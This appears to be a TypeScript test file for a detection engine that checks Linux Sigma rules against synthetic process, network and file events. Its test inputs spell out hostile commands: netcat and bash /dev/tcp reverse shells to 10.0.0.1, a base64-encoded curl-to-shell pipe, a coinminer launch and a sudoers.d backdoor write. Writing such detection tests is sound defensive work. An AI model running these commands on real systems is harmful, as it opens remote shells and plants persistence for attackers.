import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { test } from 'node:test';
import type { VigilEvent } from '@vigil/schema';
import { unpackedCorpus } from '../../../schema/test-support/corpora.ts';
import { Engine } from '../../src/engine.ts';
import { loadRulePaths, ruleFilePaths } from '../../src/rule-files.ts';
import { isSigmaDocs, loadSigmaRules } from '../../src/sigma/loader.ts';

const files = ruleFilePaths([unpackedCorpus('sigma/linux.tar.gz')]).map((path) => ({ path, text: readFileSync(path, 'utf8') }));
const loaded = loadSigmaRules(files);
const built = Engine.build(loaded.rules);

/** The engine holding only the corpus rule in `file`. */
function engineFor(file: string): Engine {
  const rules = built.compiled.filter((r) => basename(r.file ?? '') === file);
  assert.equal(rules.length, 1, file);
  return Engine.build(rules).engine;
}

const base = { time: '2026-01-01T00:00:00Z', host: { id: 'h' } };
const exec = (executable: string, args: string[], extra: Partial<NonNullable<VigilEvent['process']>> = {}): VigilEvent => ({
  ...base, event: { kind: 'process.exec' }, process: { pid: 10, executable, args, ...extra },
});
const fires = (file: string, ev: VigilEvent) => engineFor(file).process(ev).length > 0;

test('at least 90 % of the Linux Sigma rules compile; the rest are skipped with a reason', () => {
  const skipped = [...loaded.skipped, ...built.skipped];
  const compiled = built.compiled.length;
  assert.equal(compiled + skipped.length, files.length);
  console.log(`sigma linux: ${compiled}/${files.length} compile (${((100 * compiled) / files.length).toFixed(1)} %); skipped:`);
  for (const s of skipped) console.log(`  ${basename(s.file ?? '')}: ${s.reason}`);
  assert.ok(compiled / files.length >= 0.9, `${compiled}/${files.length}`);
  for (const s of skipped) assert.ok(s.reason.length > 0);
});

test('rule paths holding Sigma files load through the Sigma loader', () => {
  const viaPaths = loadRulePaths([unpackedCorpus('sigma/linux.tar.gz')]);
  assert.equal(viaPaths.rules.length, loaded.rules.length);
  assert.ok(viaPaths.rules.every((r) => r.source === 'sigma'));
});

test('netcat reverse shell fires on nc -e /bin/sh, not on plain nc or nc -e without a shell', () => {
  const file = 'proc_creation_lnx_netcat_reverse_shell.yml';
  assert.ok(fires(file, exec('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'])));
  assert.ok(!fires(file, exec('/usr/bin/nc', ['nc', '-l', '4444'])));
  assert.ok(!fires(file, exec('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/usr/bin/true'])));
  assert.ok(!fires(file, exec('/usr/bin/socat', ['socat', '-e', '/bin/sh'])));
  const [alert] = engineFor(file).process(exec('/bin/ncat', ['ncat', 'h', '1', '-c', 'bash']));
  assert.equal(alert.severity, 'high');
  assert.deepEqual(alert.techniques, ['T1059']);
  assert.deepEqual(alert.tactics, ['execution']);
  assert.equal(alert.rule.id, 'sigma:7f734ed0-4f47-46c0-837f-6ee62505abd9');
});

test('bash network connections fire unless to localhost; other programs do not', () => {
  const file = 'net_connection_lnx_back_connect_shell_dev.yml';
  const conn = (kind: 'network.connect' | 'network.accept', ip: string): VigilEvent => ({
    ...base, event: { kind }, process: { pid: 3, executable: '/bin/bash' }, destination: { ip, port: 4444 },
  });
  assert.ok(fires(file, conn('network.connect', '203.0.113.9')));
  assert.ok(!fires(file, conn('network.connect', '127.0.0.1')));
  assert.ok(fires(file, conn('network.accept', '203.0.113.9')));
  assert.ok(!fires(file, { ...conn('network.connect', '203.0.113.9'), process: { pid: 3, executable: '/usr/bin/curl' } }));
});

test('sudoers drop-in fires, except dpkg shipping its README', () => {
  const file = 'file_event_lnx_persistence_sudoers_files.yml';
  const write = (path: string, executable: string): VigilEvent => ({ ...base, event: { kind: 'file.change', action: 'create' }, process: { pid: 4, executable }, file: { path } });
  assert.ok(fires(file, write('/etc/sudoers.d/99-backdoor', '/usr/bin/tee')));
  assert.ok(!fires(file, write('/etc/sudoers.d/README.dpkg-new', '/usr/bin/dpkg')));
  assert.ok(fires(file, write('/etc/sudoers.d/README.dpkg-new', '/usr/bin/cp')));
  assert.ok(!fires(file, write('/etc/sudoers', '/usr/bin/tee')));
  const removal = write('/etc/sudoers.d/99-backdoor', '/usr/bin/rm');
  assert.ok(!fires(file, { ...removal, event: { kind: 'file.change', action: 'delete' } }));
  assert.ok(fires(file, { ...removal, event: { kind: 'file.change' } }));
});

test('auditd EXECVE argument rules read argv', () => {
  const file = 'lnx_auditd_coinminer.yml';
  assert.ok(fires(file, exec('/tmp/xmrig', ['xmrig', '-o', 'pool', '--cpu-priority=5'])));
  assert.ok(!fires(file, exec('/tmp/xmrig', ['xmrig', '-o', 'pool'])));
  assert.ok(!fires(file, exec('/tmp/xmrig', ['--cpu-priority=5'])));
});

test('base64-encoded shebangs on the command line fire', () => {
  const file = 'proc_creation_lnx_base64_shebang_cli.yml';
  const enc = Buffer.from('#!/bin/bash\ncurl x | sh').toString('base64');
  assert.ok(fires(file, exec('/bin/sh', ['sh', '-c', `echo ${enc} | base64 -d | sh`])));
  assert.ok(!fires(file, exec('/bin/sh', ['sh', '-c', `echo ${Buffer.from('hello').toString('base64')}`])));
});

test('product-only keyword rules search the event text', () => {
  const file = 'lnx_susp_dev_tcp.yml';
  assert.ok(fires(file, exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'])));
  assert.ok(!fires(file, exec('/bin/bash', ['bash', '-c', 'echo /dev/tcp'])));
});

test('a syscall or record type Vigil has no event for: the rule is skipped, a dead search is a warning', () => {
  const mknod = loaded.skipped.find((s) => basename(s.file ?? '') === 'lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml');
  assert.match(mknod?.reason ?? '', /matches no event Vigil observes/);
  assert.ok(loaded.warnings.some((w) => w.includes('lnx_auditd_create_account.yml') && w.includes("search 'selection_add_user_record_type'")));
  const file = 'lnx_auditd_create_account.yml';
  assert.ok(fires(file, exec('/usr/sbin/useradd', ['useradd', 'eve'])));
  assert.ok(!fires(file, exec('/usr/bin/id', ['id', 'eve'])));
});

test('severity follows level; deprecated rules compile but are disabled', () => {
  const yaml = (level: string, status: string) =>
    `title: t\nstatus: ${status}\nlevel: ${level}\nlogsource: {product: linux, category: process_creation}\ndetection: {sel: {Image: /bin/x}, condition: sel}\n`;
  const [info] = loadSigmaRules([{ path: 'a.yml', text: yaml('informational', 'test') }]).rules;
  assert.equal(info.severity, 'info');
  assert.ok(info.enabled);
  const [old] = loadSigmaRules([{ path: 'b.yml', text: yaml('critical', 'deprecated') }]).rules;
  assert.equal(old.severity, 'critical');
  assert.ok(!old.enabled);
});

test('Sigma and non-Sigma YAML are told apart; unsupported fields skip a rule', () => {
  assert.ok(isSigmaDocs([{ title: 't', logsource: {}, detection: {} }]));
  assert.ok(isSigmaDocs([{ title: 'c', correlation: {} }]));
  assert.ok(!isSigmaDocs([[{ rule: 'x' }]]));
  const bad = loadSigmaRules([{ path: 'w.yml', text: 'title: w\nlogsource: {product: linux, category: process_creation}\ndetection: {sel: {LogonId: 0}, condition: sel}\n' }]);
  assert.match(bad.skipped[0].reason, /LogonId/);
});
